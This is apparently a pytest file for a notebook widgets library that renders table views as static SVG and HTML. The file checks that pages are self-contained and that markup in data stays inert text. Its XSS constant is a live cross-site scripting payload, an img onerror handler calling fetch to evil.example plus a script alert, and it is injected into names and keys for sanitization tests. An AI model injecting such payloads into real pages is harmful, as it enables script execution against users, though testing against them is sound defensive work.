"""Static pictures, pages without a kernel, and text from data that must stay text."""

import base64
import json
import re
import xml.etree.ElementTree as ET
import zlib
from html.parser import HTMLParser

import pyarrow as pa
import pytest

import widgets
from tests.widgets import frames
from widgets.kit.static import SHOWN

XSS = "<img src=x onerror=\"fetch('https://evil.example')\">'\"</script><script>alert(1)</script>"


def every_view() -> list[widgets.SnapshotTimeline | widgets.Workbench]:
    table = frames.FakeTable(buckets=(("m=1", 0), ("m=2", 0)), appends=8)
    ingest = widgets.IngestProgress("orders", total=100, chunks=12)
    ingest.update(rows=40, chunk=(3, "read"))
    return [
        widgets.SnapshotTimeline(table),
        widgets.LsmLevels(table),
        widgets.CompactionControls(table),
        ingest,
        widgets.Workbench(table),
    ]


def nasty_views() -> list[widgets.SnapshotTimeline | widgets.Workbench]:
    """Every view of a table whose names and keys are markup."""
    table = frames.FakeTable(buckets=((f"p={XSS}", 0), ("p=2", 0)), appends=9, name=XSS)
    levels = table.inspect.levels

    def nasty(**scope):
        files = levels(**scope)
        return files.set_column(8, "min_key", pa.array([XSS] * files.num_rows))

    table.inspect.levels = nasty
    timeline = widgets.SnapshotTimeline(table, tags={XSS: 3})
    ingest = widgets.IngestProgress(XSS)
    ingest.update(rows=1, phase=XSS)
    with pytest.raises(OSError, match="evil"):
        ingest.run(failing).wait(240)
    table.fail_with = OSError(XSS)
    controls = widgets.CompactionControls(table)
    with pytest.raises(OSError, match="evil"):
        controls.step().wait(240)
    broken = widgets.LsmLevels(table)
    broken.snapshot = 999
    return [timeline, widgets.LsmLevels(table), controls, ingest, broken, widgets.Workbench(table)]


def failing(_progress: widgets.IngestProgress) -> None:
    raise OSError(XSS)


@pytest.mark.parametrize("view", every_view(), ids=lambda view: type(view).__name__)
def test_every_view_has_a_picture_a_text_and_a_live_form(view):
    bundle = view._repr_mimebundle_()
    data = bundle[0] if isinstance(bundle, tuple) else bundle
    assert set(data) == {"text/plain", "text/html", "application/vnd.jupyter.widget-view+json", SHOWN}
    match = re.fullmatch(
        r'<img src="data:image/svg\+xml;base64,([^"]+)" alt="[^"<>]+" style="max-width:100%">',
        data["text/html"],
    )
    root = ET.fromstring(base64.b64decode(match.group(1)))
    assert root.tag.endswith("svg")
    assert data["text/plain"] == repr(view)


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [660, 1040])
@pytest.mark.parametrize("view", every_view(), ids=lambda view: type(view).__name__)
def test_pictures_are_documents_of_their_own_at_every_width(view, width, theme):
    svg = view.to_svg(width=width, theme=theme)
    root = ET.fromstring(svg)
    assert float(root.get("width")) == width
    assert "var(" not in svg
    assert "http" not in svg.replace("http://www.w3.org/2000/svg", "")


@pytest.mark.parametrize("view", every_view(), ids=lambda view: type(view).__name__)
def test_a_page_refers_to_nothing_outside_itself(view, tmp_path):
    page = view.to_html(tmp_path / "view.html").read_text(encoding="utf-8")
    assert set(re.findall(r"https?://[^\"'<\s]+", page)) <= {"http://www.w3.org/2000/svg"}
    assert not re.search(
        r"<(?:script|img|iframe)[^>]+src=(?!\"data:)|<link[^>]+href=\"(?!data:)|@import|url\(http", page
    )
    assert "default-src 'none'" in page


def test_a_page_of_several_views_links_timeline_levels_and_panel():
    table = frames.FakeTable(appends=6)
    page = widgets.page("shop.orders", [widgets.Workbench(table), widgets.IngestProgress("orders")])
    assert page.count("data-view=") == 2 + 1  # one selector in the script
    specs = unpacked(page)
    assert [spec["kind"] for spec in specs] == ["workbench", "timeline", "levels", "controls", "ingest"]
    assert [spec["group"] for spec in specs] == [0, 0, 0, 0, 3]
    assert specs[0]["state"]["parts"] == {"timeline": 1, "levels": 2, "controls": 3}
    assert list(specs[2]["frames"]["716"]["one"]) == ["keys", "bytes"]
    assert base64.b64decode(specs[2]["edits"][0])


def test_a_page_links_views_that_were_not_linked():
    table = frames.FakeTable(appends=6)
    timeline, levels = widgets.SnapshotTimeline(table), widgets.LsmLevels(table)
    specs = unpacked(widgets.page("shop.orders", [timeline, levels]))
    assert specs[1]["group"] == specs[0]["group"]
    assert levels.snapshot == 6


def test_the_present_frame_of_a_page_outlines_the_plan():
    specs = unpacked(widgets.page("t", [widgets.Workbench(frames.FakeTable(appends=7))]))
    frame = specs[2]["frames"]["716"]
    assert all("input of next compaction" in picture["svg"] for picture in frame["one"].values())
    assert frame["about"]["of"][:2] == [7, "/0"]


def test_a_page_is_the_same_for_the_same_table():
    pages = {widgets.page("t", [widgets.Workbench(frames.FakeTable(appends=6))]) for _ in range(2)}
    assert len(pages) == 1


def unpacked(page: str) -> list[dict[str, object]]:
    packed = re.search(r'id="lw-data">([^<]+)<', page).group(1)
    return json.loads(zlib.decompress(base64.b64decode(packed)))


class StaticTags(HTMLParser):
    """Collects start tags and event attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.events: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.events += [name for name, _ in attrs if name.startswith("on")]


@pytest.mark.parametrize("view", nasty_views(), ids=lambda view: type(view).__name__)
def test_markup_in_data_stays_text_in_every_picture(view):
    svg = view.to_svg()
    names = {element.tag.split("}")[1] for element in ET.fromstring(svg).iter()}
    assert not names & {"img", "script", "image", "foreignObject", "a"}
    events = [
        name for element in ET.fromstring(svg).iter() for name in element.attrib if name.startswith("on")
    ]
    assert events == []


@pytest.mark.parametrize("view", nasty_views(), ids=lambda view: type(view).__name__)
def test_markup_in_data_stays_text_in_notebooks_and_pages(view, tmp_path):
    html = [view._repr_mimebundle_()]
    html = [(bundle[0] if isinstance(bundle, tuple) else bundle)["text/html"] for bundle in html]
    page = view.to_html(tmp_path / "view.html", title=XSS).read_text(encoding="utf-8")
    views = view.views if isinstance(view, widgets.Workbench) else [view]
    live = [str(each.frame.get(part, "")) for each in views for part in ("svg", "overview", "legend")]
    for text in html + live + [page]:
        tags = StaticTags()
        tags.feed(text)
        assert not tags.events
        assert tags.tags.count("img") <= 1
        assert tags.tags.count("script") == (2 if text is page else 0)


def test_a_page_says_what_it_leaves_out():
    table = frames.FakeTable(appends=4)
    table.inspect.edits = None
    page = widgets.page("t", [widgets.SnapshotTimeline(table), widgets.LsmLevels(table)])
    assert "Levels in this file: the present; a kernel shows the other 3 snapshots." in page
    small = widgets.page("t", [widgets.LsmLevels(frames.FakeTable(appends=3))])
    assert "in this file" not in small.partition("<script")[0]
